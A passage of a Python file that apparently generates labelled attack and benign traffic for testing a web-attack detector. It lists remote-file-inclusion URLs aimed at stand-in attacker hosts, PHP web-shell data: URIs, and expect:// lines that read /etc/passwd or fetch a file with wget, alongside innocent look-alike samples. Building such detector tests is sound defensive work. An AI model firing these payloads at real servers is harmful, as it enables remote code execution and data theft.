    "http://0313.0.113.7/x.txt",
]
# IPv6 literals: documentation prefix, IPv4-mapped in dotted, compressed-hex and full forms, with ports
RFI_IP_V6: list[Entry] = [
    "http://[2001:db8::7]/shell.txt",
    "http://[::ffff:203.0.113.7]/x.txt",
    "http://[::ffff:cb00:7107]/x.txt",
    "https://[2001:db8:85a3::8a2e:370:7334]:8443/inc.php",
    "ftp://[2001:db8::23]/pub/x.txt",
    "http://[0:0:0:0:0:ffff:cb00:7107]/x.txt",
]
# JSP <c:import url>, ColdFusion <cfhttp>, ASP.NET Server.Execute of a fetched page, SSI-proxied includes
RFI_IP_OTHER: list[Entry] = [
    f"http://{ATTACKER_IP}/cmd.jsp",
    f"http://{ATTACKER_IP}/cfexec.cfm",
    f"http://{ATTACKER_IP}/x.aspx",
    f"http://{LHOST}:8000/include.shtml",
]

# --- rfi: url-with-trailing-question-mark ------------------------------------------------------------------------
# PHP include("$page.php"): a trailing ? (or ?x=, ??) turns the appended extension into a query string
RFI_Q_PHP: list[Entry] = [
    "http://attacker.example/shell.txt?",
    "http://evil.example/c99.txt??",
    f"https://{ATTACKER_IP}/x.txt?",
    "http://attacker.example/inc.txt?x=",
    "ftp://attacker.example/pub/x.txt?",
    "//attacker.example/x.txt?",
    "http://attacker.example:8000/x?",
    "https://pastebin.com/raw/7ZbQfK2e?",
    "https://raw.githubusercontent.com/attacker/kit/main/shell.txt?",
    "https://gist.githubusercontent.com/attacker/5f2c/raw/x.php?",
    "http://attacker.example/shell.jpg?",
    "HTTPS://ATTACKER.EXAMPLE/R57.TXT?",
    "http://user@attacker.example/inc?",
    "http://[2001:db8::7]/x.txt?",
    f"http://{ATTACKER_IP}/x.txt?foo=",
    "http://attacker.example/x.txt?.php",
    "http://attacker.example/x.txt?=",
    "ftp://anonymous@attacker.example/x.txt?",
    "https://attacker.example./x.txt?",
    "http://xn--80ak6aa92e.com/x.txt?",
    f"http://{ATTACKER_IP}:8080/x?",
    "https://cdn.jsdelivr.net/gh/attacker/kit@main/s.txt?",
    "https://bitbucket.org/attacker/kit/raw/main/s.txt?",
    "https://attacker.example/x.txt?ver=",
]
# the same, written as sent: an encoded ? (%3f) that the includer's own decoding restores, a ? before a space
RFI_Q_WIRE: list[Entry] = [
    "http://attacker.example/x.txt%3f",
    "http://attacker.example/x.txt?%20",
    "http://attacker.example/x.txt%3F%3F",
]
# the same trick for other includers: JSP c:import of "${param.p}.jsp", Perl require, ASP Server.Execute
RFI_Q_OTHER: list[Entry] = [
    "http://attacker.example/cmd.jsp?",
    "http://attacker.example/x.pl?",
    "http://attacker.example/x.asp?",
    "https://attacker.example/x.cfm?",
]

# --- rfi: include-parameter-with-url (raw `name=url`) ------------------------------------------------------------
# generic PHP includers: page, file, include, inc, template, path, module, theme, skin, lang
RFI_PARAM_PHP: list[Entry] = [
    ("page=http://attacker.example/shell.txt", "param-name", "rs-param-name"),
    (f"file=https://{ATTACKER_IP}/x.txt", "form", "rs-raw-body"),
    ("include=ftp://attacker.example/pub/x.php", "param-name", "rs-raw-body"),
    ("inc=http://attacker.example/c99.txt", "form", "rs-param-name"),
    ("template=https://attacker.example/t.html", "param-name", "rs-param-name"),
    ("path=http://attacker.example/lib/", "form", "rs-raw-body"),
    ("module=http://attacker.example/m.txt", "param-name", "rs-raw-body"),
    ("theme=https://attacker.example/skin.php", "form", "rs-param-name"),
    ("skin=http://attacker.example/s.txt", "param-name", "rs-param-name"),
    ("lang=http://attacker.example/en.txt", "form", "rs-raw-body"),
    ("dir=http://attacker.example/", "param-name", "rs-raw-body"),
    ("view=http://attacker.example/v.txt", "form", "rs-param-name"),
    ("src=http://attacker.example/s.txt", "param-name", "rs-raw-body"),
    ("content=https://attacker.example/c.txt", "form", "rs-param-name"),
]
# register_globals-era PHP 4 / 5.3 apps (Mambo, phpBB 2, old CMSs): the config path variables themselves
RFI_PARAM_GLOBALS: list[Entry] = [
    ("mosConfig_absolute_path=http://attacker.example/shell.txt", "param-name", "rs-param-name"),
    ("phpbb_root_path=http://attacker.example/x/", "form", "rs-raw-body"),
    ("_SERVER[DOCUMENT_ROOT]=http://attacker.example/x.txt", "param-name", "rs-raw-body"),
    ("GLOBALS[includedir]=http://attacker.example/", "form", "rs-param-name"),
    ("cfg[path]=http://attacker.example/inc/", "param-name", "rs-param-name"),
    ("base_path=http://attacker.example/x/", "form", "rs-raw-body"),
    ("root_path=ftp://attacker.example/x/", "param-name", "rs-raw-body"),
    ("abs_path=http://attacker.example/", "form", "rs-param-name"),
]
# other includers by their parameter: JSP c:import url, ColdFusion cfinclude template, Perl/CGI require
RFI_PARAM_OTHER: list[Entry] = [
    ("url=http://attacker.example/cmd.jsp", "param-name", "rs-param-name"),
    ("template=http://attacker.example/x.cfm", "form", "rs-raw-body"),
    ("require=http://attacker.example/x.pl", "param-name", "rs-raw-body"),
    ("page=//attacker.example/x.php", "form", "rs-param-name"),
    ("include_path=http://attacker.example/", "param-name", "rs-param-name"),
    ("file=\\\\attacker.example\\share\\x.php", "form", "rs-raw-body"),
]
# JSON APIs that take a template or include location
RFI_PARAM_JSON: list[Entry] = [
    ('{"template":"https://attacker.example/t.tpl"}', "json-body", "rs-json-body"),
    ('{"include":"http://attacker.example/inc.php"}', "json-body", "rs-json-body"),
    ('{"page":"http://203.0.113.7/p.txt?"}', "json-body", "rs-json-body"),
    ('{"options":{"layout":"https://attacker.example/l.ejs"}}', "json-body", "rs-json-body"),
]

# --- rfi: off-domain-reference -----------------------------------------------------------------------------------
# PHP, JSP, ColdFusion and ASP includers pointed off-site by hostname, and URL-parser dialects: fragments,
# userinfo confusion, backslashes (WHATWG / browsers), trailing-dot FQDNs, punycode, protocol-relative
RFI_OFF: list[Entry] = [
    "https://attacker.example/shell.php",
    "http://attacker.example/x.txt#",
    "HtTp://attacker.example/inc.txt",
    "http://attacker.example\\@app.example.com/x.txt",
    "http://app.example.com@attacker.example/x.txt",
    "http:\\\\attacker.example\\x.txt",
    "//attacker.example/x.txt",
    "https://attacker.example./x.txt",
    "http://xn--80ak6aa92e.com/x.txt",
    "http://attacker.example:80/shell.txt",
    "http://attacker.example/x.php/.",
    "https://cdn.attacker.example/inc/header.php",
    "https://transfer.sh/Ab12Cd/shell.txt",
    "http://attacker.example/shell.gif",
    "http://attacker.example/cmd.jsp",
    "http://attacker.example/cfexec.cfm",
    "http://attacker.example/x.asp",
    "https://attacker.example/x.txt;.php",
    "http:/attacker.example/x.txt",
    "https:attacker.example/x.txt",
    "http://attacker.example/shell.txt#.php",
    "https://storage.googleapis.com/attacker-bucket/s.txt",
    "https://attacker.s3.amazonaws.com/s.txt",
    "https://attacker.example:8443/x.txt",
    "http://attacker.example/x.php?cmd=id",
    "https://api.attacker.example/v1/payload.php",
    "http://attacker.example/inc/config.inc",
    "https://attacker.example/shell.txt/",
    "https://dl.dropboxusercontent.com/s/abc123/shell.txt",
]

# the same, written as sent: an encoded fragment, an encoded slash ending the host, a trailing encoded space
RFI_OFF_WIRE: list[Entry] = [
    "http://attacker.example/x.txt%23",
    "http://attacker.example%2fx.txt",
    "http://attacker.example/x.txt%20",
]

# --- rfi: protocols ----------------------------------------------------------------------------------------------
# PHP: ftp and ftps, data: (RFC 2397, plain and base64), expect:// (PECL expect), ssh2.sftp
RFI_PROTO_PHP: list[Entry] = [
    "ftp://anonymous:a@attacker.example/x.php",
    "ftps://attacker.example/shell.txt",
    "data://text/plain;base64," + _b64("<?php system($_GET['c']);?>"),
    "data:text/plain,<?php phpinfo();?>",
    "data:;base64," + _b64("<?=`id`?>"),
    "expect://id",
    "expect://cat /etc/passwd",
    "ssh2.sftp://user:pass@attacker.example:22/home/u/x.php",
    "ftp://attacker.example:2121/pub/x.txt",
    "data:text/plain;charset=utf-8,<?php system($_GET[1]);?>",
    f"expect://wget http://{ATTACKER_IP}/x -O /tmp/x",
]
# Windows (PHP include, .NET File.Open, IIS): UNC, WebDAV UNC with @SSL and @port, \\?\UNC, admin shares,
# forward-slash UNC, file:// with a host
RFI_PROTO_WIN: list[Entry] = [
    "\\\\attacker.example\\share\\shell.php",
    f"\\\\{ATTACKER_IP}\\s\\x.php",
    "\\\\attacker.example@SSL\\DavWWWRoot\\x.php",
    "\\\\attacker.example@8080\\share\\x.php",
    "\\\\?\\UNC\\attacker.example\\share\\x.php",
    f"\\\\{LHOST}\\c$\\x.php",
    "//attacker.example/share/x.php",
    "file://attacker.example/share/x.php",
    "\\\\attacker.example\\share$\\x.php",
    "\\\\attacker.example\\DavWWWRoot\\x.php",
    "file:////attacker.example/share/x.php",
]
# SMB / NFS / AFP / WebDAV URLs (GIO, macOS, smbclient-backed readers), curl's tftp and sftp, Java jar:
RFI_PROTO_OTHER: list[Entry] = [
    "smb://attacker.example/share/x.php",
    f"smb://guest@{ATTACKER_IP}/pub/x.php",
    "nfs://attacker.example/export/x.php",
    "afp://attacker.example/share/x.php",
    "dav://attacker.example/x.php",
    "davs://attacker.example/webdav/x.txt",
    f"tftp://{ATTACKER_IP}/x.txt",
    "sftp://attacker.example/x.txt",
    "jar:http://attacker.example/x.jar!/Evil.class",
    f"gopher://{ATTACKER_IP}:70/0x.txt",
]

# (category, sub, entries, form): "wire" and "wire-param" lists are written as sent and go unquoted where servers
# decode them ("wire" also in the URL path, "wire-param" in parameters only); "" is a plain value
FAMILIES: list[tuple[str, str, list[Entry], str]] = [
    ("rce", "unix-command-injection", CMDI_BASH, ""),
    ("rce", "unix-command-injection", CMDI_DASH, ""),
    ("rce", "unix-command-injection", CMDI_ZSH, ""),
    ("rce", "unix-command-injection", CMDI_FISH, ""),
    ("rce", "unix-command-injection", CMDI_CSH, ""),
    ("rce", "unix-command-injection", CMDI_KSH, ""),
    ("rce", "unix-shell-evasion", EVADE_BASH, ""),
    ("rce", "unix-shell-evasion", EVADE_DASH, ""),
    ("rce", "unix-shell-evasion", EVADE_ZSH, ""),
    ("rce", "unix-shell-evasion", EVADE_FISH, ""),
    ("rce", "unix-shell-evasion", EVADE_CSH_KSH, ""),
    ("rce", "windows-cmd-injection", WIN_CMD, ""),
    ("rce", "windows-cmd-injection", WIN_COMMAND_COM, ""),
    ("rce", "powershell", PS5, ""),
    ("rce", "powershell", PS7, ""),
    ("rce", "unix-command-names-with-paths", PATH_LINUX, ""),
    ("rce", "unix-command-names-with-paths", PATH_BUSYBOX, ""),
    ("rce", "unix-command-names-with-paths", PATH_MACOS, ""),
    ("rce", "unix-command-names-with-paths", PATH_UNIX, ""),
    ("rce", "unix-command-names-with-paths", PATH_CONTAINER, ""),
    ("rce", "reverse-shells", REV_SHELLS, ""),
    ("rce", "reverse-shells", REV_NC, ""),
    ("rce", "reverse-shells", REV_LANG, ""),
    ("rce", "reverse-shells", REV_TOOLS, ""),
    ("rce", "reverse-shells", REV_PS, ""),
    ("rce", "shellshock", SHELLSHOCK, ""),
    ("rce", "downloaders", DL_UNIX, ""),
    ("rce", "downloaders", DL_LANG, ""),
    ("rce", "downloaders", DL_WIN, ""),
    ("rce", "file-write-via-shell", WRITE_SH, ""),
    ("rce", "file-write-via-shell", WRITE_RC, ""),
    ("rce", "file-write-via-shell", WRITE_WIN, ""),
    ("rce", "restricted-file-names-in-commands", READ_LINUX, ""),
    ("rce", "restricted-file-names-in-commands", READ_UNIX, ""),
    ("rce", "restricted-file-names-in-commands", READ_APP, ""),
    ("rce", "restricted-file-names-in-commands", READ_WIN, ""),
    ("lfi", "path-traversal", TRAV_TYPED, ""),
    ("lfi", "path-traversal", TRAV_WIRE, "wire"),
    ("lfi", "path-traversal", TRAV_JSON, ""),
    ("lfi", "os-file-access", OSF_LINUX, ""),
    ("lfi", "os-file-access", OSF_APP, ""),
    ("lfi", "os-file-access", OSF_WIN, ""),
    ("lfi", "os-file-access", OSF_OTHER, ""),
    ("lfi", "absolute-paths", ABS_LINUX, ""),
    ("lfi", "absolute-paths", ABS_WIN, ""),
    ("lfi", "absolute-paths", ABS_OTHER, ""),
    ("lfi", "null-byte-truncation", NUL_WIRE, "wire"),
    ("lfi", "null-byte-truncation", NUL_JSON, ""),
    ("lfi", "null-byte-truncation", TRUNCATION, ""),
    ("lfi", "php-wrapper-lfi", PHP_FILTER, ""),
    ("lfi", "php-wrapper-lfi", PHP_STREAMS, "wire-param"),
    ("lfi", "log-poisoning-targets", LOG_WEB, ""),
    ("lfi", "log-poisoning-targets", LOG_OTHER, ""),
    ("lfi", "restricted-file-extensions", EXT_PHP, ""),
    ("lfi", "restricted-file-extensions", EXT_IIS, ""),
    ("lfi", "restricted-file-extensions", EXT_DATA, ""),
    ("rfi", "url-with-ip-address", RFI_IP_V4, ""),
    ("rfi", "url-with-ip-address", RFI_IP_FORMS, ""),
    ("rfi", "url-with-ip-address", RFI_IP_V6, ""),
    ("rfi", "url-with-ip-address", RFI_IP_OTHER, ""),
    ("rfi", "url-with-trailing-question-mark", RFI_Q_PHP, ""),
    ("rfi", "url-with-trailing-question-mark", RFI_Q_WIRE, "wire-param"),
    ("rfi", "url-with-trailing-question-mark", RFI_Q_OTHER, ""),
    ("rfi", "include-parameter-with-url", RFI_PARAM_PHP, ""),
    ("rfi", "include-parameter-with-url", RFI_PARAM_GLOBALS, ""),
    ("rfi", "include-parameter-with-url", RFI_PARAM_OTHER, ""),
    ("rfi", "include-parameter-with-url", RFI_PARAM_JSON, ""),
    ("rfi", "off-domain-reference", RFI_OFF, ""),
    ("rfi", "off-domain-reference", RFI_OFF_WIRE, "wire-param"),
    ("rfi", "protocols", RFI_PROTO_PHP, ""),
    ("rfi", "protocols", RFI_PROTO_WIN, ""),
    ("rfi", "protocols", RFI_PROTO_OTHER, ""),
]
# `name=value` payloads sent unquoted where they name the place
RAW_KV_SUBS = {"include-parameter-with-url"}
# Shellshock: whole header values, as a CGI exports them; backup names: URL paths
SUB_CYCLES = {
    "shellshock": (["header:User-Agent", "header:Referer", "header:Cookie", "header:X-Api-Version"],
                   ["rs-header:User-Agent", "rs-header:Referer", "rs-header:Cookie", "rs-header:X-Test-Header"]),
    "restricted-file-extensions": (["url-path", "url-path", "query"], ["rs-url-path", "rs-url-path", "rs-query"]),
}
WIRE_CYCLES = {
    "wire": (["query", "url-path", "form", "param-name", "cookie"],
             ["rs-query", "rs-url-path", "rs-form", "rs-raw-body", "rs-cookie", "rs-param-name"]),
    "wire-param": (["query", "form", "param-name", "cookie"], ["rs-query", "rs-form", "rs-raw-body", "rs-cookie"]),
}

# ----------------------------------------------------------------------------------------------------------------
# Placements
# the form each wire-form payload is written in ("wire": a whole value, "wire-param": a parameter's value)
WIRE_FORMS = {entry if isinstance(entry, str) else entry[0]: form
              for _, _, entries, form in FAMILIES if form for entry in entries}
RS_DIRS = ["/", "/backup/", "/static/", "/files/", "/admin/", "/app/", "/download/"]
CGI_PATHS = ["/cgi-bin/test.cgi", "/cgi-bin/status", "/cgi-sys/defaultwebpage.cgi", "/cgi-bin/admin.cgi"]
WIRE_SAFE = "%/:;=.,_-~!$'()*@[]\\?"


class _Set(BlindSet):
    prefix = NAME
    families = [(category, sub, entries) for category, sub, entries, _ in FAMILIES]
    names = ["q", "file", "name", "path", "host", "url", "cmd", "page", "sort", "template"]
    kv_safe = "=&[]._-:/'*$!(),;{}~@\\"
    raw_places = ("form", "param-name", "rs-param-name", "rs-raw-body")
    short = ("path", "url-path", "rs-url-path")

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        form = WIRE_FORMS.get(payload)
        return WIRE_CYCLES[form] if form else SUB_CYCLES.get(sub, (self.real_cycle, self.rs_cycle))

    def rs_path(self, category: str, sub: str, k: int) -> str:
        paths = CGI_PATHS if sub == "shellshock" else self.rs_paths
        return paths[k % len(paths)]

    def is_latin(self, sub: str, payload: str) -> bool:
        return payload in WIRE_FORMS   # here: the payload is in its wire form (see enc)

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return fixed and sub in RAW_KV_SUBS and not payload.startswith("{")

    def enc(self, value: str, latin: bool = False, safe: str = "") -> str:
        """Percent-encode a value; a wire-form payload keeps its own escapes (only spaces and the like are quoted)."""
        return urllib.parse.quote(value, safe=WIRE_SAFE if latin else safe)

    def _p_url_path(self, p: Put) -> Record:
        return _get("/api/users/" + self.enc(p.v.lstrip("/"), p.latin, "/~"))

    def _p_rs_raw_body(self, p: Put) -> Record:
        return request("POST", p.path, self._raw(p) if p.raw else p.v, FORM)

    def _p_rs_url_path(self, p: Put) -> Record:
        return request("GET", RS_DIRS[p.k % len(RS_DIRS)] + self.enc(p.v.lstrip("/"), p.latin, "/~"))


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same product names, commands and file names, typed innocently
CHAT = [
    # shells
    "bash 5.2 on the build agents and zsh on our laptops, so the Makefile sets SHELL := /bin/bash explicitly",
    "fish users: the venv script you want is activate.fish, the plain one is for bash and zsh",
    "PowerShell 7 finally has && and || like bash, much nicer for one-liners in CI",
    "the cmd.exe window closes straight away, run the .bat from an open prompt to see the error",
    "Alpine images use busybox ash, so no arrays in the entrypoint script please",
    "dash is /bin/sh on Ubuntu, that's why `source` failed in the hook; use a dot instead",
    "heads up: the old FreeBSD box still has csh as root's shell",
    "ksh on the AIX server doesn't know `local`, I rewrote it with typeset",
    "Windows PowerShell 5.1 ships with Windows, PowerShell 7 is a separate install (pwsh.exe)",
    "shellshock patches landed years ago, all our hosts run bash 5.x",
    "tcsh prompt looks weird after the upgrade, anyone seen that?",
    "zsh on macOS complains about compinit permissions after the Homebrew update",
    "the busybox version in the router firmware is from 2019, vendor says an update is coming",
    # commands people mention
    "whoami shows CORP\\jsmith on the Windows runner, the service account is different",
    "ipconfig /flushdns fixed it on my laptop, the VPN had cached the old address",
    "ping 8.8.8.8 works but DNS doesn't resolve, looks like the resolver is down",
    "uname -a says 6.8 kernel on the new nodes",
    "can you cat the nginx error log and grep for 502? I don't have access",
    "netcat is handy to check the port: nc -zv db.internal 5432",
    "socat forwards the debug port inside the pod, see the runbook",
    "python3 -m http.server 8000 is enough for the demo, no need for nginx",
    "the perl one-liners in the old deploy scripts are impossible to read",
    "wget isn't in the slim image, use curl or python instead",
    "please don't pipe install scripts into sh, download and read them first",
    "the cron job runs every five minutes, check crontab -l on the worker",
    "net user /domain is blocked for normal accounts, ask IT",
    "certutil -hashfile setup.exe SHA256 to check the download",
    "tee is useful when you want the output on screen and in a file",
    "reverse shell? no, it's a reverse SSH tunnel for the vendor's support session",
    "the reverse proxy on port 8443 terminates TLS and forwards to the app",
    "mkfifo shows up in the log shipper sidecar, that's expected",
    # files and paths
    "the /etc/passwd entry for the app user has /usr/sbin/nologin as its shell",
    "/etc/hosts override for local testing: point app.local at 127.0.0.1",
    ".env is in .gitignore, copy .env.example and fill in your own keys",
    "the .git folder ended up in the Docker image, fixed in .dockerignore",
    "id_rsa keys are being retired in our GitHub org, please switch to ed25519",
    "web.config transforms differ between staging and production",
    ".htaccess rules don't apply on nginx, we converted them to location blocks",
    "boot.ini is from the XP days, Windows uses BCD now",
    "win.ini is still there on Windows 11, nothing reads it anymore",
    "/proc/meminfo inside the container shows the host's memory, not the limit",
    "the .bak files on the share are from the old SQL Server, safe to archive",
    "keep config.old around until the rollback window closes",
    "the nightly backup writes a .sql dump to the bucket, never to the web root",
    "config.ini lives next to the exe on Windows and in ~/.config on Linux",
    "logs are under /var/log/nginx and rotate daily",
    "the IIS logs are in C:\\inetpub\\logs\\LogFiles, one folder per site",
    "PHP sessions are stored in Redis now, not /var/lib/php/sessions",
    "the path traversal bug in the zip extractor is fixed in 3.1.2, please upgrade",
    "the null byte in the CSV broke the importer, we strip it now",
    "the include of the footer template fails on page 2 of the results",
    # URLs and protocols
    "I put the ftp link in the ticket, it's the vendor's public mirror",
    "the finance share \\\\fileserver\\finance is read-only for contractors",
    "data: URIs for the small icons keep the newsletter self-contained",
    "smb:// links don't open from the browser, map the drive instead",
    "the template path in settings points at our S3 bucket now",
    "PHP 8.3 deprecated a few things, the plugin still needs 7.4",
    "allow_url_include is off everywhere, that's the default since forever",
    "expect is installed on the build box for the old telnet automation",
]
SEARCHES = [
    "bash", "zsh", "fish shell", "powershell 7", "windows powershell", "cmd", "command prompt", "busybox", "ksh",
    "tcsh", "dash", "shellshock", "curl", "wget", "netcat", "socat", "python", "perl", "ruby", "reverse proxy",
    "passwd reset", "password reset", "etc", "win.ini", "web.config", "htaccess", "git", "env file", "id rsa",
    "ssh key", "backup", "sql dump", "config", "ini", "access log", "php 8", "include", "template", "ftp",
    "smb share", "data", "expect", "path", "file", "page", "whoami", "ping", "root", "admin", "shell",
]
URLS = [
    "https://www.gnu.org/software/bash/manual/bash.html#Brace-Expansion",
    "https://fishshell.com/docs/current/language.html#command-substitution",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/about/"
    "about_pipeline_chain_operators",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/cmd",
    "https://zsh.sourceforge.io/Doc/Release/Expansion.html",
    "https://nvd.nist.gov/vuln/detail/CVE-2014-6271",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://curl.se/docs/manpage.html",
    "https://www.gnu.org/software/wget/manual/wget.html",
    "https://busybox.net/downloads/BusyBox.html",
    "https://man.openbsd.org/ksh",
    "https://github.com/fish-shell/fish-shell/releases/tag/3.7.1",
    "https://github.com/PowerShell/PowerShell/releases/tag/v7.4.2",
    "https://httpd.apache.org/security/vulnerabilities_24.html",
    "https://nginx.org/en/docs/http/ngx_http_core_module.html#alias",
    "https://docs.docker.com/reference/cli/docker/container/logs/",
    "https://kubernetes.io/docs/tasks/run-application/access-api-from-pod/",
    "https://www.php.net/manual/en/function.include.php",
    "https://datatracker.ietf.org/doc/html/rfc2397",
    "https://learn.microsoft.com/en-us/dotnet/standard/io/file-path-formats",
    "https://docs.python.org/3/library/subprocess.html#security-considerations",
    "https://nodejs.org/api/child_process.html",
    "https://ss64.com/nt/syntax-esc.html",
    "https://wiki.archlinux.org/title/Command-line_shell",
    "https://support.apple.com/en-us/102360",
    "https://www.freebsd.org/cgi/man.cgi?query=tcsh",
    "https://cwe.mitre.org/data/definitions/98.html",
]
PROSE = [
    "Customer on Windows 11 cannot run the installer from cmd, asked them to try PowerShell instead",
    "User reports the bash completion script breaks in zsh, forwarded to the CLI team",
    "Ticket 4821: export to CSV fails when the file name has a slash in it",
    "Contractor needs read access to the ftp mirror for the release files",
    "Reset the password for the fish market account (the restaurant, not the shell)",
    "Customer asked whether we support Alpine and BusyBox based images, yes since 2.3",
    "Follow up with the Mac users about the zsh default shell change",
    "Mark the backup job as done, the sql dump is in cold storage",
    "Customer's web.config was overwritten during the deploy, restored from the previous release",
    "The include path warning in the PHP logs is harmless, will clean up next sprint",
    "Template upload fails for files over 5 MB, limit is in the nginx config",
    "Admin asked for a list of users whose home path is still on the old file server",
    "Audit: who has access to the root account on the build servers",
    "Security review of the path traversal fix signed off by Priya",
    "Please update the wiki page about the reverse proxy timeouts",
    "Customer pasted a PowerShell error: the term 'pwsh' is not recognized",
    "Windows server 2012 is out of support, migrate the ini settings to the registry",
    "User wants the access log for their tenant for last Tuesday",
    "Sent the smb share link to the design team for the large assets",
    "Review the cron entries on the old ksh scripts before the AIX shutdown",
    "Check the .env handling in the new deploy pipeline",
    "Debian 12 ships bash 5.2 and dash 0.5.12",
    "Add a note about the PHP 8 upgrade to the release notes",
    "Rotate the ssh keys for the deploy user after Ana leaves",
    "Customer says the data export is missing the template column",
    "curl examples in the API docs use single quotes, Windows users need double quotes",
    "wget on the NAS is too old for TLS 1.3, use the built-in downloader",
    "Ticket 5120: ping to the status page times out from the Singapore office",
    "Investigate why the log rotation keeps the .old files for 90 days",
    "Shell company check for the new vendor came back clean",
    "Backup restore test passed, took 42 minutes",
    "The page parameter in the old reports URL is ignored now",
    "Customer in Lisbon asks for invoices as PDF, not as an ftp download",
    "Update the onboarding doc: install PowerShell 7 and Windows Terminal",
    "Remove the expect scripts once the switches support SSH keys",
]
PROFILES = [
    ("Bash & Co Events", "Rua das Flores 12, Porto"),
    ("Shell Garage Meyer", "Hauptstrasse 40, Kassel"),
    ("Fish Market Deli", "Pier 39, San Francisco"),
    ("Curl Up Bookshop", "High Street 7, Hay-on-Wye"),
    ("Pipe & Drain Services", "Unit 4, Leeds"),
    ("Echo Audio Ltd", "Studio 9, Manchester"),
    ("Cat's Whiskers Grooming", "Elm Road 3, Cambridge"),
    ("Data Path Consulting", "Kungsgatan 8, Stockholm"),
    ("Page One Printing", "Main Street 101, Cork"),
    ("The Include Collective", "Calle Mayor 5, Madrid"),
    ("Template Studio", "Vesterbrogade 21, Copenhagen"),
    ("Root & Branch Gardening", "Church Lane 2, York"),
    ("SMB Accounting Partners", "Avenue Louise 54, Brussels"),
    ("Expect More Coaching", "King Street 18, Toronto"),
    ("Backup Solutions Ltd", "Business Park 6, Reading"),
    ("Korn Bakery", "Marktplatz 1, Ulm"),
    ("Power Shell Energy", "Dock Road 11, Aberdeen"),
    ("Reverse Gear Motors", "Industrial Estate 3, Coventry"),
]
UPLOAD_NAMES = [
    "users-export.csv", "users_2024-05.csv", "import (2).csv", "team list final.csv", "new-hires.csv",
    "shell-scripting-course.pdf", "powershell-7-migration.docx", "bash-cheatsheet.pdf", "zsh-setup-notes.txt",
    "fish-recipes.docx", "network diagram smb.png", "backup-policy-2024.pdf", "config-review.xlsx",
    "access-log-summary.xlsx", "windows-11-rollout.pptx", "php-upgrade-plan.pdf", "template-guide.pdf",
    "Résumé - José.pdf", "invoice_0042.pdf", "photo.jpg", "ftp-mirror-list.txt", "path-to-production.pdf",
    "root-cause-analysis.docx", "include-list.csv", "page-layouts.sketch",
]
BENIGN_HEADERS = [
    ("User-Agent", "curl/8.7.1"),
    ("User-Agent", "Wget/1.21.4"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.22631; en-US) PowerShell/7.4.2"),
    ("User-Agent", "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506"),
    ("User-Agent", "Python-urllib/3.12"),
    ("User-Agent", "libwww-perl/6.77"),
    ("User-Agent", "fetch libfetch/2.0"),
    ("User-Agent", "Microsoft-CryptoAPI/10.0"),
    ("User-Agent", "Microsoft BITS/7.8"),
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.4 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
                   "Safari/537.36"),
    ("Referer", "https://www.gnu.org/software/bash/manual/bash.html"),
    ("Referer", "https://learn.microsoft.com/en-us/powershell/scripting/install/installing-powershell-on-windows"),
    ("Referer", "https://www.google.com/search?q=bash+vs+zsh+vs+fish"),
    ("Referer", "https://stackoverflow.com/questions/4181703/how-to-concatenate-string-variables-in-bash"),
    ("Referer", "https://app.example.com/admin/users?page=3&sort=name"),
    ("X-Api-Version", "2024-05-01"),
    ("X-Forwarded-For", "203.0.113.10"),
    ("Accept-Language", "de-DE,de;q=0.9,en;q=0.7"),
    ("Cookie", "session=abc123; shell=zsh; theme=dark"),
    ("Cookie", "session=abc123; last_search=powershell%207; tz=Europe%2FBerlin"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS, "email\n")


if __name__ == "__main__":
    print_records(attacks(), benign())
